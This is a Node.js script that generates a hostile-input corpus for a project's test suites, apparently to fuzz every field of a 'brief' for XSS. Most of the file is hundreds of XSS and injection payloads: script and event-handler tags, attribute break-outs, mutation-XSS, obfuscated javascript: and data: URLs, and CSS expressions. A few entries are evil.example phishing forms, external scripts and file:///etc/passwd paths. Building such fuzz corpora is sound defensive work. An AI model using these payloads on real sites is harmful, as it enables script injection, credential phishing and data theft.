// Writes tests/hostile/corpus.txt: the hostile strings every hostile suite
// feeds into every field of a brief. One JSON-encoded string per line, pure
// ASCII (everything else as \uXXXX, so controls, bidi overrides and lone
// surrogates survive editors and diffs). Deterministic: rerun after editing
// the lists below and commit both files.
//   node tests/hostile/make-corpus.mjs
import { writeFileSync } from "node:fs";
import { fileURLToPath } from "node:url";

const out = new Set();
const add = (...xs) => xs.flat().forEach((x) => out.add(x));

// What runs if a payload ever executes: the suites patch alert/confirm/
// prompt/print and define window.__xss; all of them only set a flag.
const CALLS = ["alert(1)", "__xss()", "confirm(1)", "prompt(1)", "print()", "top.__xss()", "parent.__xss()",
  "window['__x'+'ss']()", "(0,alert)(1)", "alert`1`", "self[atob('X194c3M=')]()", "eval('__xss()')",
  "setTimeout('__xss()')", "Function('__xss()')()", "import('data:text/javascript,__xss()')"];

// ---- 1. script elements -------------------------------------------------
add(CALLS.map((c) => `<script>${c}</script>`));
add([
  "<ScRiPt>__xss()</sCrIpT>", "<script >__xss()</script >", "<script\n>__xss()</script\n>", "<script/x>__xss()</script>",
  "<script src=data:,__xss()></script>", "<script src=\"data:text/javascript,__xss()\"></script>",
  "<script src=//evil.example/x.js></script>", "<script type=module>__xss()</script>", "<script type=text/javascript>__xss()</script>",
  "\"><script>__xss()</script>", "'><script>__xss()</script>", "</script><script>__xss()</script>", "<script>/*", "*/__xss()</script>",
  "<scr<script>ipt>__xss()</scr</script>ipt>", "<<script>__xss();//<</script>", "<script<{alert(1)}/></script>",
  "<script>__xss()<!--", "<!--<script>", "--><script>__xss()</script>", "<script x>__xss()</script x>",
  "<svg><script>__xss()</script></svg>", "<svg><script href=data:,__xss() /></svg>", "<svg><script xlink:href=data:,__xss()></script></svg>",
  "<math><script>__xss()</script></math>", "</title><script>__xss()</script>", "</textarea><script>__xss()</script>",
  "</style><script>__xss()</script>", "</noscript><script>__xss()</script>", "</template><script>__xss()</script>",
  "</xmp><script>__xss()</script>", "</iframe><script>__xss()</script>", "</plaintext><script>__xss()</script>",
  "<plaintext><script>__xss()</script>", "</script>", "</SCRIPT>", "<script>", "<\u0000script>__xss()</script>",
  "<scr\u0000ipt>__xss()</scr\u0000ipt>", "\u0000<script>__xss()</script>", "<script>__xss()</script>\u0000",
  "%3Cscript%3E__xss()%3C/script%3E", "\\x3cscript\\x3e__xss()\\x3c/script\\x3e", "\\u003cscript\\u003e__xss()\\u003c/script\\u003e",
  "\uFF1Cscript\uFF1E__xss()\uFF1C/script\uFF1E", "\u02C2script\u02C3__xss()\u02C2/script\u02C3", "\u2039script\u203A",
]);

// ---- 2. event handlers on every kind of element -------------------------
const TAGS = ["img src=x", "image src=x", "svg", "body", "iframe", "input autofocus", "details open", "video src=x", "audio src=x",
  "object data=x", "embed src=x", "marquee", "select autofocus", "textarea autofocus", "keygen autofocus", "div", "a href=#",
  "style", "link rel=stylesheet href=x", "frameset", "isindex", "form", "button autofocus", "math", "xss", "x contenteditable autofocus",
  "video poster=x", "source src=x", "track src=x", "picture", "slot", "template", "dialog open", "table background=x"];
const EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationstart", "onbegin",
  "onpageshow", "onscroll", "onpointerenter", "onfocusin", "onbeforetoggle", "oncontentvisibilityautostatechange"];
for (const [i, tag] of TAGS.entries()) {
  for (const [j, ev] of EVENTS.entries()) {
    if ((i + j) % 3 !== 0) continue; // a third of the grid: the shapes, not every pair
    add(`<${tag} ${ev}=${CALLS[(i * 7 + j) % 4]}>`);
  }
}
add([
  "<img src=x onerror=alert(1)>", "<img src=x onerror=\"__xss()\">", "<img src=x onerror='__xss()'>", "<img src=x onerror=`__xss()`>",
  "<img/src=x/onerror=__xss()>", "<img\tsrc=x\tonerror=__xss()>", "<img\nsrc=x\nonerror=__xss()>", "<img\u000csrc=x\u000conerror=__xss()>",
  "<img src=x onerror\t=\t__xss()>", "<IMG SRC=x ONERROR=__xss()>", "<img src=x:alert(1) onerror=eval(src)>",
  "<img src=\"x\" onerror=\"&#95;&#95;xss()\">", "<img src=x onerror=&#x5F;&#x5F;xss&#x28;&#x29;>", "<img src=x one rror=__xss()>",
  "<img src=x onerror=__xss()//", "<img src=x onerror=__xss() ", "<img src=x onerror=__xss()", "<img src onerror=__xss()>",
  "<svg onload=__xss()>", "<svg/onload=__xss()>", "<svg\nonload=__xss()>", "<svg onload=__xss()//", "<svg><g onload=__xss()></g></svg>",
  "<svg><animate onbegin=__xss() attributeName=x dur=1s>", "<svg><set onbegin=__xss() attributeName=x to=1>",
  "<svg><animate attributeName=href values=javascript:__xss() /><a id=x><text x=20 y=20>X</text></a>",
  "<svg><set attributeName=href to=javascript:__xss() /></svg>", "<svg><a xlink:href=\"javascript:__xss()\"><text x=20 y=20>X</text></a></svg>",
  "<svg><foreignObject><img src=x onerror=__xss()></foreignObject></svg>", "<svg><image href=x onerror=__xss() />",
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='__xss()'/></svg>#x\"/>",
  "<body onload=__xss()>", "<body onpageshow=__xss()>", "<iframe src=javascript:__xss()>", "<iframe srcdoc=\"<script>parent.__xss()</script>\">",
  "<iframe srcdoc=\"&lt;img src=x onerror=parent.__xss()&gt;\">", "<iframe src=\"data:text/html,<script>parent.__xss()</script>\">",
  "<details open ontoggle=__xss()>", "<input autofocus onfocus=__xss()>", "<input type=image src=x onerror=__xss()>",
  "<video><source onerror=__xss()>", "<audio src=x onerror=__xss()>", "<marquee onstart=__xss()>", "<object data=javascript:__xss()>",
  "<object data=\"data:text/html,<script>parent.__xss()</script>\">", "<embed src=javascript:__xss()>", "<embed src=\"data:text/html,<script>parent.__xss()</script>\">",
  "<a href=javascript:__xss()>click</a>", "<a href=\"jav&#x09;ascript:__xss()\">click</a>", "<form action=javascript:__xss()><input type=submit>",
  "<form><button formaction=javascript:__xss()>x</button></form>", "<isindex action=javascript:__xss() type=image>",
  "<div onpointerenter=__xss() style=position:fixed;inset:0>", "<div style=animation-name:x onanimationstart=__xss()>",
  "<x onclick=__xss()>click", "<p contenteditable autofocus onfocus=__xss()>", "<div popover id=p onbeforetoggle=__xss()>",
  "<style onload=__xss()></style>", "<link rel=import href=data:text/html,<script>__xss()</script>>", "<meta http-equiv=refresh content=\"0;url=javascript:__xss()\">",
  "<meta charset=utf-7>+ADw-script+AD4-__xss()+ADw-/script+AD4-", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "<base href=javascript:__xss()//>", "<base href=//evil.example/>", "<template><img src=x onerror=__xss()></template>",
  "<template shadowrootmode=open><img src=x onerror=__xss()></template>", "<div><template shadowrootmode=open><script>__xss()</script></template></div>",
]);

// ---- 3. attribute break-outs --------------------------------------------
add([
  "\" onmouseover=\"__xss()", "' onmouseover='__xss()", "\" autofocus onfocus=\"__xss()", "' autofocus onfocus='__xss()' x='",
  "\"/><img src=x onerror=__xss()>", "'/><img src=x onerror=__xss()>", "\"><img src=x onerror=__xss()>", "\"\"><img src=x onerror=__xss()>",
  "` onerror=__xss() `", "x\" onerror=\"__xss()", "\" style=\"background:url(javascript:__xss())", "\" style=\"x:expression(__xss())",
  "\" src=\"javascript:__xss()", "\" href=\"javascript:__xss()", "\" srcdoc=\"<script>parent.__xss()</script>", "\"\u0000onerror=__xss() x=\"",
  "\" onerror=__xss() \"", "&quot; onerror=&quot;__xss()", "&#34; onerror=&#34;__xss()", "&#x22;&#x3E;&#x3C;script&#x3E;__xss()&#x3C;/script&#x3E;",
  "\"\t onfocus=__xss() autofocus \"", "\"\n onfocus=__xss() autofocus \"", "=\"\" onload=__xss()", "x=y onerror=__xss()",
]);

// ---- 4. mutation XSS and parser-context shapes --------------------------
add([
  "<math><mtext><table><mglyph><style><img src=x onerror=__xss()>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=__xss()&gt;\">",
  "<noscript><p title=\"</noscript><img src=x onerror=__xss()>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=__xss()>\">",
  "<svg><style><img src=x onerror=__xss()></style></svg>", "<math><style><img src=x onerror=__xss()></style></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss()>", "<math href=\"javascript:__xss()\">CLICK</math>",
  "<math><maction actiontype=statusline xlink:href=javascript:__xss()>X</maction></math>", "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=__xss()></annotation-xml></math>",
  "<svg><desc><img src=x onerror=__xss()></desc></svg>", "<svg><title><img src=x onerror=__xss()></title></svg>",
  "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=__xss()>\">",
  "<select><style></select><img src=x onerror=__xss()>", "<table><td><img src=x onerror=__xss()>", "<table><caption><style><img src=x onerror=__xss()>",
  "<a><svg><a><img src=x onerror=__xss()>", "<textarea></textarea><img src=x onerror=__xss()>", "<title></title><img src=x onerror=__xss()>",
  "<xmp><img src=x onerror=__xss()></xmp>", "<xmp></xmp><img src=x onerror=__xss()>", "<noembed><img title=\"</noembed><img src=x onerror=__xss()>\"></noembed>",
  "<noframes><img title=\"</noframes><img src=x onerror=__xss()>\"></noframes>", "<iframe><img title=\"</iframe><img src=x onerror=__xss()>\"></iframe>",
  "<listing>&lt;img src=x onerror=__xss()&gt;</listing>", "<!--<img src=x onerror=__xss()>-->", "<!-- --!><img src=x onerror=__xss()>",
  "<!--><img src=x onerror=__xss()>-->", "<!---><img src=x onerror=__xss()>", "<!--", "-->", "--!>", "<!-- a", "<!", "<!>", "<?", "</", "<", ">", "&", "<a", "<a ",
  "<![CDATA[><img src=x onerror=__xss()>]]>", "]]>", "]]><img src=x onerror=__xss()>", "<![CDATA[", "<svg><![CDATA[><img src=x onerror=__xss()>]]></svg>",
  "<?xml version=\"1.0\"?><img src=x onerror=__xss()>", "<?xml-stylesheet href=\"javascript:__xss()\"?>", "<!DOCTYPE html><img src=x onerror=__xss()>",
  "<!DOCTYPE x [<!ENTITY xss \"<img src=x onerror=__xss()>\">]>&xss;", "<div id=\"x\" is=\"x-evil\">", "<x-evil></x-evil>",
  "<img src=x onerror=__xss()></img><!--", "</p></div></section></article><img src=x onerror=__xss()>", "</h2></header><script>__xss()</script>",
  "</a><a href=javascript:__xss()>", "</li></ul><img src=x onerror=__xss()>", "</blockquote></figure><img src=x onerror=__xss()>",
  "</time><img src=x onerror=__xss()>", "</span><img src=x onerror=__xss()>", "</figcaption><img src=x onerror=__xss()>",
  "<b>bold</b>", "<i>x</i>", "<p>para</p>", "<br>", "<hr>", "<h1>huge</h1>", "<a href=\"https://evil.example/\">phish</a>",
  "<form action=https://evil.example/><input name=password placeholder=password></form>", "<input type=password>",
  "<div style=\"position:fixed;inset:0;background:red;z-index:2147483647\">overlay</div>", "<dialog open>spoof</dialog>",
  "<slot name=x></slot>", "<slot>", "<template>", "<style>*{display:none}</style>", "<style>@import 'https://evil.example/x.css';</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>", "<img src=https://evil.example/track.gif>", "<object data=https://evil.example/>",
  "<portal src=https://evil.example/>", "<fencedframe src=https://evil.example/>",
]);

// ---- 5. entity-encoded text ---------------------------------------------
add([
  "&lt;script&gt;__xss()&lt;/script&gt;", "&#60;script&#62;__xss()&#60;/script&#62;", "&#x3c;script&#x3e;__xss()&#x3c;/script&#x3e;",
  "&#0000060;script&#0000062;", "&LT;script&GT;", "&lt", "&ltscript&gt", "&amp;", "&amp;lt;", "&quot;", "&apos;", "&#39;", "&nbsp;", "&#0;",
  "&#x0;", "&#xD800;", "&#x110000;", "&#128;", "&#x80;", "&#13;", "&Tab;&NewLine;", "&colon;", "&lpar;&rpar;", "&unknown;", "&#", "&#x", "&;",
  "&amp;#60;script&amp;#62;", "\\u003cimg src=x onerror=__xss()\\u003e", "\\x3cimg src=x onerror=__xss()\\x3e", "%3Cimg%20src%3Dx%20onerror%3D__xss()%3E",
  "%253Cscript%253E", "&#x26;lt;script&#x26;gt;",
]);

// ---- 6. javascript:, vbscript:, data: and friends, however obfuscated ---
const JS = "javascript";
const URL_BODIES = ["__xss()", "alert(1)", "alert(document.domain)//", "/**/__xss()", "%0A__xss()", "//%0a__xss()"];
add(URL_BODIES.map((b) => `${JS}:${b}`));
add([
  "JAVASCRIPT:__xss()", "JaVaScRiPt:__xss()", "javaScript:__xss()", "javascript:__xss();void(0)", "javascript:", "javascript:;", "javascript:void(0)",
  "javascript://%0A__xss()", "javascript://comment%0d%0a__xss()", "javascript://\u2028__xss()", "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+__xss()//'>",
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=__xss() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=__xss()//>\\x3e",
  "javascript\t:__xss()", "javascript\n:__xss()", "javascript :__xss()", "javascript\u0000:__xss()", "java\u0000script:__xss()",
  "java\u00adscript:__xss()", "java\u200bscript:__xss()", "java\u200cscript:__xss()", "java\u200dscript:__xss()", "java\ufeffscript:__xss()",
  "java\u2060script:__xss()", "java\u180escript:__xss()", "javascript\u00a0:__xss()", "javascript\u3000:__xss()", "javascript\u2028:__xss()",
  "\u00a0javascript:__xss()", "\u2028javascript:__xss()", "\u3000javascript:__xss()", "\ufeffjavascript:__xss()", "\u200bjavascript:__xss()",
  "\u0085javascript:__xss()", "\u007fjavascript:__xss()", "\u202ejavascript:__xss()", "\u202e)(ssx__:tpircsavaj", "javascript\u202e:__xss()",
  "javascript%3A__xss()", "javascript%3a__xss()", "javascript%253A__xss()", "%6A%61%76%61%73%63%72%69%70%74%3A__xss()", "%6Aavascript:__xss()",
  "jav%0Aascript:__xss()", "jav%09ascript:__xss()", "jav%00ascript:__xss()", "&#106;avascript:__xss()", "&#x6A;avascript:__xss()",
  "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss()", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A__xss()",
  "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058__xss()", "javascript&colon;__xss()",
  "javascript&#58;__xss()", "javascript&#x3a;__xss()", "jav&#x09;ascript:__xss()", "jav&#x0A;ascript:__xss()", "jav&#x0D;ascript:__xss()",
  "jav&Tab;ascript:__xss()", "jav&NewLine;ascript:__xss()", "java&#09;script:__xss()", "j&#x61;v&#97;script&#x3A;__xss()",
  "\\u006Aavascript:__xss()", "\\x6Aavascript:__xss()", "java\\script:__xss()", "javascript\\:__xss()", "\\javascript:__xss()",
  "\u0458avascript:__xss()", "java\u0455cript:__xss()", "j\u0430vascript:__xss()", "\uff4aavascript:__xss()", "\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54\uff1a__xss()",
  "javascript\uff1a__xss()", "javascript\ufe13__xss()", "javascript\ufe55__xss()", "javascript\u0589__xss()", "javascript\u2236__xss()", "javascript\u02d0__xss()",
  "JAVASCR\u0130PT:__xss()", "javascr\u0131pt:__xss()", "\u212Aavascript:", "java\u017Fcript:__xss()", "javascript\u0338:__xss()",
  "vbscript:msgbox(1)", "VBScript:MsgBox(1)", "vbscript\t:msgbox(1)", "\u0001vbscript:msgbox(1)", "vbs\ncript:msgbox(1)", "livescript:__xss()", "mocha:__xss()",
  "data:text/html,<script>__xss()</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:text/html,<script>__xss()</script>",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__xss()'/>", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
  "data:,__xss()", "data:text/javascript,__xss()", "data:application/x-javascript,__xss()", " data:text/html,<script>__xss()</script>",
  "\tdata:text/html,x", "da\nta:text/html,<script>__xss()</script>", "da\tta:text/html,x", "\u0000data:text/html,x", "data\t:text/html,x",
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "blob:https://example.org/0d3e3b6a", "filesystem:https://example.org/temporary/x", "file:///etc/passwd", "file://c:/windows/win.ini",
  "about:blank", "about:srcdoc", "chrome://settings", "chrome-extension://abc/x", "view-source:https://example.org/", "jar:https://example.org/x.jar!/",
  "ws://example.org/", "wss://example.org/", "ftp://example.org/x", "gopher://example.org/", "intent://x#Intent;scheme=javascript;end", "tel:+15555555555",
  "sms:+15555555555", "ms-settings:", "x-javascript:__xss()", "javascript.:__xss()", "javascript+x:__xss()", "java-script:__xss()", "urn:x",
  "mailto:__xss()", "mailto:javascript:__xss()", "mailto:x@example.org?body=<script>__xss()</script>", "mailto:x@example.org\"><img src=x onerror=__xss()>",
  "MAILTO:x@example.org", "mailto:", "mailto:%0Ajavascript:__xss()", " mailto:x@example.org ", "mail\tto:x@example.org",
]);
// Every C0 control (and space and DEL) in front of the scheme, alone and doubled.
for (let c = 0; c <= 0x20; c++) add(String.fromCharCode(c) + "javascript:__xss()", String.fromCharCode(c, c) + "javascript:alert(1)");
add("\u007fjavascript:alert(1)");
// Tab, newline and carriage return at every position inside the scheme (and before the colon).
for (const ws of ["\t", "\n", "\r"]) for (let i = 1; i <= JS.length; i++) add(JS.slice(0, i) + ws + JS.slice(i) + ":__xss()");
add("j\na\tv\ra\ns\tc\rr\ni\tp\rt\n:__xss()", "\t\n\r javascript\t\n\r:\t\n\r__xss()", "\r\njavascript:__xss()", "javascript:\r\n__xss()");
// Other controls inside the scheme (the browser keeps these, so it is no longer a scheme at all).
for (const c of [0x00, 0x01, 0x08, 0x0b, 0x0c, 0x1b, 0x1f, 0x7f]) add("java" + String.fromCharCode(c) + "script:__xss()");
// Every case pattern of the scheme would be 1,024; a sample of them.
for (let m = 0; m < 1024; m += 37) add([...JS].map((ch, i) => (m >> i) & 1 ? ch.toUpperCase() : ch).join("") + ":__xss()");

// ---- 7. http(s) shapes: protocol-relative, backslashes, hosts, ports ----
add([
  "//evil.example", "//evil.example/x", "///evil.example", "////evil.example", "/\\evil.example", "\\/evil.example", "\\\\evil.example\\x",
  "\\\\\\evil.example", "/\t/evil.example", "/\n/evil.example", "\t//evil.example", "https:evil.example", "https:/evil.example", "http:\\\\evil.example",
  "https:\\/evil.example", "https:/\\evil.example/", "HTTPS://EVIL.EXAMPLE/", "https://evil.example", "https://evil.example:443/", "https://evil.example:0/",
  "https://evil.example:65535/", "https://evil.example:65536/", "https://evil.example:99999/", "https://evil.example:-1/", "https://evil.example:/",
  "https://evil.example:80:80/", "https://user:pass@evil.example/", "https://evil.example@good.example/", "https://good.example\\@evil.example/",
  "https://good.example%40evil.example/", "https://@evil.example/", "https://:@evil.example/", "http://[::1]/", "http://[::1]:8080/", "http://[::ffff:127.0.0.1]/",
  "http://[/", "http://]/", "http://[::1/", "http://[]/", "http://[x]/", "http://0x7f.1/", "http://0177.0.0.1/", "http://2130706433/", "http://127.1/",
  "http://localhost/", "http://127.0.0.1/", "http://0/", "http://999.999.999.999/", "http://256.0.0.1/", "http://1.2.3.4.5/",
  "https://\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45.org/", "https://ex\u0430mple.org/", "https://\u0435xample.org/", "https://xn--80ak6aa92e.com/",
  "https://xn--/", "https://xn--a.org/", "https://\u00e9xample.org/", "https://ex\u200bample.org/", "https://ex\u00adample.org/", "https://\u202eelpmaxe.org/",
  "https://example.org\u3002evil.example/", "https://example.org%2F@evil.example/", "https://ex%61mple.org/", "https://ex%00ample.org/", "https://ex%ample.org/",
  "https://exa mple.org/", "https://ex<ample.org/", "https://ex\"ample.org/", "https://ex^ample.org/", "https://ex|ample.org/", "https://ex`ample.org/",
  "https://ex{ample}.org/", "https://ex[ample.org/", "https://ex\\ample.org/", "https://example.org/\"><script>__xss()</script>",
  "https://example.org/'onerror='__xss()", "https://example.org/?q=<img src=x onerror=__xss()>", "https://example.org/#<script>__xss()</script>",
  "https://example.org/#\"onmouseover=\"__xss()", "https://example.org/ onerror=__xss()", "https://example.org/\u0000", "https://example.org/\u202e",
  "https://example.org/\ud800", "https://example.org/%", "https://example.org/%zz", "https://example.org/\u2028", "https://example.org/a\tb\nc",
  "https://example.org/javascript:__xss()", "https://example.org/?javascript:__xss()", "https:", "https:/", "https://", "https:///", "https://?", "https://#",
  "https://:80/", "http://%20/", "http://%00/", "http://\u0000/", "http://a\u0000b/", "http://ex\u0001ample.org/", "http://ex\u007fample.org/",
  "http://\ufffd/", "http://\ud800/", "http://\u00ad/", "http://\u200b/", "http://.../", "http://./", "http://../", "http://a..b/", "http://-a-.org/",
  "http://a_b.org/", "https://javascript:javascript:", "https://a:b:/", "//user:pw@evil.example/", "\\\\user:pw@evil.example/",
  "//evil.example:99999/", "//[/", "//?/x", "https://example.org/" + "\u00e9".repeat(1500), "http://" + "a".repeat(64) + ".org/", "http://" + "a.".repeat(130) + "org/", "http://example.org:8080@evil.example/",
  "/relative/path", "relative", "./x", "../../../../etc/passwd", "?q=1", "#frag", "#", "?", "/", ".", "..", "x:", "1:x", "+:x", "-x:y", "a:b",
  "C:\\Windows\\System32", "c:/x", "\\\\?\\C:\\x", "%2F%2Fevil.example", "%5C%5Cevil.example", "/%2F/evil.example", "/%5Cevil.example",
]);

// ---- 8. CSS -------------------------------------------------------------
add([
  "expression(__xss())", "width:expression(__xss())", "x:expr/**/ession(__xss())", "x:\\65xpression(__xss())", "url(javascript:__xss())",
  "background:url(javascript:__xss())", "background:url('javascript:__xss()')", "background-image:url(\"javascript:__xss()\")",
  "url(data:text/html,<script>__xss()</script>)", "@import 'javascript:__xss()';", "@import url(https://evil.example/x.css);",
  "-moz-binding:url(https://evil.example/x.xml#xss)", "behavior:url(x.htc)", "</style><img src=x onerror=__xss()>", "}*{display:none}",
  "--brief-bg:url(javascript:__xss())", "\";background:url(javascript:__xss());\"", "color:red;}</style><script>__xss()</script>",
  "<div style=\"background:url(javascript:__xss())\">", "<div style=\"width:expression(__xss())\">", "<style>@import 'javascript:__xss()';</style>",
  "<link rel=stylesheet href=javascript:__xss()>", "<div style=\"x:\\65xpression(__xss())\">", "<div style=\"behavior:url(#default#time2)\" onbegin=__xss()>",
]);

// ---- 9. template and other injection dialects ---------------------------
add([
  "{{constructor.constructor('__xss()')()}}", "{{7*7}}", "${__xss()}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "[[${7*7}]]", "@(1+1)",
  "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "{\"__proto__\":{\"polluted\":1}}", "\"},\"title\":\"x", "\\", "\"", "'", "`",
  "\\\"", "\\\\\"", "\"'`", "');__xss();//", "\";__xss();//", "*/__xss()/*", "-->__xss()<!--", "'\"><", "<>", "<<>>", "><", "</>", "<\u0000>",
  "{\"title\":\"x\"}", "[]", "{}", "null", "undefined", "NaN", "true", "0", "-0", "1e309", "[object Object]", "%s%s%s%n", "%x%x", "\\n\\r\\t",
]);

// ---- 10. bidi, invisible and odd Unicode --------------------------------
add([
  "\u202e", "\u202egnp.exe", "Invoice\u202efdp.exe", "\u202d\u202e\u202a\u202b\u202c", "\u2066\u2067\u2068\u2069", "\u202e<script>__xss()</script>",
  "\u200f\u200e", "\u061c", "\u200b", "\u200b\u200c\u200d\u2060\ufeff", "\u00ad", "\u034f", "\u115f\u1160", "\u3164", "\uffa0", "\u2800",
  "\ufeff", "\ufeffBOM", "\ufffe", "\uffff", "\ufffd", "\ufff9\ufffa\ufffb", "\ufffc", "\u0085", "\u2028", "\u2029", "\u2028\u2029",
  "\u00a0", "\u3000", "\u1680", "\u180e", "\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a", "\u205f", "\u202f",
  "e\u0301", "Z\u0351\u0360\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u036b\u0357", "\u0e01\u0e34\u0e34\u0e34\u0e34\u0e34\u0e34",
  "\ud83d\ude00", "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66", "\ud83c\uddfa\ud83c\uddf8", "\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}",
  "\u{10FFFF}", "\u{E0001}", "\u{F0000}", "\u{1D400}\u{1D401}", "\ud800", "\udfff", "\udc00", "\udbff", "a\ud800b", "\udc00\ud800", "\ud800\ud800",
  "\udfff\udfff", "x\ud83d", "\ude00x", "<\ud800script>__xss()</script>", "java\ud800script:__xss()", "\ud800javascript:__xss()",
  "\u0000", "\u0000\u0000\u0000", "a\u0000b", "\u0000<script>__xss()</script>", "\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008",
  "\u000b\u000c\u000e\u000f\u0010\u0011\u0012\u0013\u0014\u0015\u0016\u0017\u0018\u0019\u001a\u001b\u001c\u001d\u001e\u001f", "\u007f",
  "\u0080\u0081\u0082\u0083\u0084\u0086\u0087\u0088\u0089\u008a\u008b\u008c\u008d\u008e\u008f\u0090\u009f", "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007",
  "a\rb", "a\r\nb", "\r", "\n", "\t", "\r\n", "\n\n\n", " ", "  ", "\t \n", "", "x", "\u0130\u0131\u017f\u212a", "\u00df\u1e9e", "\u03a3\u03c3\u03c2",
  "\u0627\u0644\u0639\u0631\u0628\u064a\u0629", "\u05e2\u05d1\u05e8\u05d9\u05ea", "\u0641\u0627\u0631\u0633\u06cc <script>__xss()</script>", "\u4e2d\u6587", "\ud55c\uad6d\uc5b4",
  "\uff1cscript\uff1e__xss()\uff1c/script\uff1e", "\ufe64script\ufe65", "\u3008script\u3009", "\u2329script\u232a", "\uff02\uff07\uff1c\uff1e\uff06",
]);

// ---- 11. long strings, generated ----------------------------------------
const rep = (s, n) => s.repeat(n);
add([
  rep("A", 499), rep("A", 500), rep("A", 501), rep("A", 2047), rep("A", 2048), rep("A", 2049), rep("A", 9999), rep("A", 10000), rep("A", 10001),
  rep("\ud83d\ude00", 500), rep("\ud83d\ude00", 501), rep("e\u0301", 250), rep("<", 10000), rep("&", 3000), rep("\"", 3000), rep("<script>", 1250),
  rep("<div>", 2000), rep("<b>", 3333), rep("\u202e", 500), rep("\u0000", 500), rep("\ud800", 500), rep(" ", 600) + "x", rep("\t", 2100) + "javascript:__xss()",
  rep(" ", 3000) + "javascript:__xss()", "javascript:" + rep("/", 2000) + "__xss()", "https://example.org/" + rep("a", 2028), "https://example.org/" + rep("a", 2029),
  "https://" + rep("a", 2040) + ".org/", rep("<img src=x onerror=__xss()>", 300), rep("&lt;", 2000), rep("\u00e9", 10000), rep("\u00e9", 10001),
  rep("x", 100_000), rep("<a href=javascript:__xss()>", 5000),
]);

// A few seeded-random strings from a hostile alphabet, of assorted lengths.
let seed = 0x9e3779b9;
const rnd = () => { seed ^= seed << 13; seed >>>= 0; seed ^= seed >>> 17; seed ^= seed << 5; seed >>>= 0; return seed; };
const ALPHABET = ["<", ">", "\"", "'", "`", "&", "=", "/", "\\", ":", ";", "(", ")", "javascript", "script", "on", "error", "img", "svg", "\u0000",
  "\t", "\n", "\r", "\u202e", "\ud800", "\udfff", "\ud83d\ude00", "#", "%", "x", " ", "--", "!", "?", "[", "]", "{", "}", "&#", "&lt;", "\u00a0", "\u2028"];
for (let i = 0; i < 40; i++) {
  let s = "";
  const n = 1 + (rnd() % (i < 30 ? 40 : 400));
  for (let j = 0; j < n; j++) s += ALPHABET[rnd() % ALPHABET.length];
  add(s);
}

// ---- write ----------------------------------------------------------------
const asciiJson = (s) => JSON.stringify(s).replace(/[\u007f-\uffff]/g, (c) => "\\u" + c.charCodeAt(0).toString(16).padStart(4, "0"));
const file = fileURLToPath(new URL("./corpus.txt", import.meta.url));
const lines = [...out].map(asciiJson);
writeFileSync(file, lines.join("\n") + "\n");
console.log(`${lines.length} strings -> ${file}`);
